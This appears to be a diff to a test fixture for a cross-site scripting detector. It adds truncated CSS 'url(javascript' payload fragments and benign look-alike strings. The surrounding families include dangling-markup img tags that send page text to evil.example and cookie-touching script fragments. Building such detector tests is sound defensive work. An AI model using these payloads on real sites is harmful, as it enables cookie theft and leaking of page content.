@@ -85,7 +85,8 @@ FAMILIES = {
     # dangling markup: a fetched URL attribute left open, so the page's text goes to that host;
     # a script URL cut short by a length limit
     "left open": ['<img src="http://evil.example/log?', "'><img src='//evil.example/?", '"<marquee><img src="http://x.example/a.png',
-                  "<IMG SRC='javasc", '<a href="javascr', "<iframe src='vbscri"],
+                  "<IMG SRC='javasc", '<a href="javascr', "<iframe src='vbscri", "x=x:url(javascript",
+                  'background: url("javascr'],
     # a script element whose angle brackets a filter or layer removed
     "bracketless script": ["scriptalert(crosssitescripting)/script", "-1scriptdocument.cookie=true;/script",
                            '>"scriptdocument.cookie=true;/script', "'scriptprompt(1)/script"],
@@ -124,6 +125,7 @@ LOOK_ALIKES = [
     '<img src="https://cdn.example/a.png">', "<a href='jav", "javascript/script", "/js/script/script.js",
     "see script and /script tags", "script (alert) /script", "the script is in /script/run.sh",
     "a */ b", "/* note */ call alert(1) later", "*/ see alert (1) /*", "5 */ 2 = 2.5",
+    "background:url(javascript-logo.png)", "background:url(jav", "use url(javascript",
 ]
 
 
